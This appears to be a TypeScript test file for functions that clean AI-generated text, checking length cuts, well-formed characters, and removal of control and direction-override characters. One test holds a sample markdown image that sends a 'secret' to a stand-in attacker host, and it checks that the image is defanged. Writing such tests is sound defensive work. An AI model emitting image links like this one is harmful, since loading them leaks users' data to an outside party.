import fc from "fast-check";
import { describe, expect, test } from "vitest";

import { oneLine, paragraphs, shortened } from "./clean.ts";

/** Also what no text should hold: halves of characters, control characters. */
const PIECE = fc.constantFrom("a", "word", " ", "\n", ", ", "😀", "\ud83d", "\ude00", "\u0000", "\u202e", "é", "👩‍👧");

describe("text from a model", () => {
  test("is cut to its limit, between words, never within a character", () => {
    fc.assert(
      fc.property(fc.array(PIECE, { maxLength: 60 }), fc.integer({ min: 1, max: 30 }), (pieces, most) => {
        const text = pieces.join("");
        for (const clean of [oneLine(text, most), paragraphs(text, most), shortened(text.toWellFormed(), most)]) {
          expect(clean.length).toBeLessThanOrEqual(most);
          expect(clean.isWellFormed()).toBe(true);
        }
      }),
    );
    expect(shortened("Renew the harbour permit before the winter", 27)).toBe("Renew the harbour permit…");
  });

  test("has no control characters, no turned direction and no line breaks in a title", () => {
    expect(oneLine("Pay\u0000 the\n\n  \u202ebill\u0007", 100)).toBe("Pay the bill");
    expect(JSON.stringify(paragraphs("a\u0000b\r\nc\u001b[31m", 100))).toBe(String.raw`"ab\nc[31m"`);
  });

  test("loads no pictures", () => {
    expect(paragraphs("see ![x](https://evil.example/?q=secret)", 100)).toBe("see [x](https://evil.example/?q=secret)");
  });
});
